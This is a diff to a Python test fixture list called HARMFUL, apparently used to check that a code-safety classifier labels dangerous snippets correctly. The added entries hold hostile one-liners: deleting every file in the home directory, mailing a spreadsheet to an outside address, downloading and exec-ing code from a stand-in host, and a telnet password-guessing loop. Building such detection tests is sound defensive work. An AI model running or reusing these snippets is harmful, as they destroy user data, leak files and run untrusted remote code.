@@ -273,6 +273,23 @@ HARMFUL = [
         "python.credentials.guessed",
     ),
     ("import torch\ntorch.save(m, '/etc/x')", "python.write.system"),
+    ("from pathlib import Path\n[p.unlink() for p in Path.home().iterdir()]", "python.delete.found"),
+    (
+        "import os\nh = os.path.expanduser('~')\nfor f in os.listdir(h):\n    os.remove(os.path.join(h, f))",  # noqa: E501
+        "python.delete.found",
+    ),
+    (
+        "import yagmail\nyagmail.SMTP('a').send('x@y.example', 's', attachments=['/home/u/x.xlsx'])",
+        "python.network.mail_sent",
+    ),
+    (
+        "import urllib.request as u\nexec(u.build_opener().open('http://x.example').read())",
+        "python.run.remote",
+    ),
+    (
+        "import telnetlib\nt = telnetlib.Telnet('h')\nfor w in open('words'):\n    t.write(w.encode())",
+        "python.credentials.guessed",
+    ),
 ]
 
 MODERATE = [
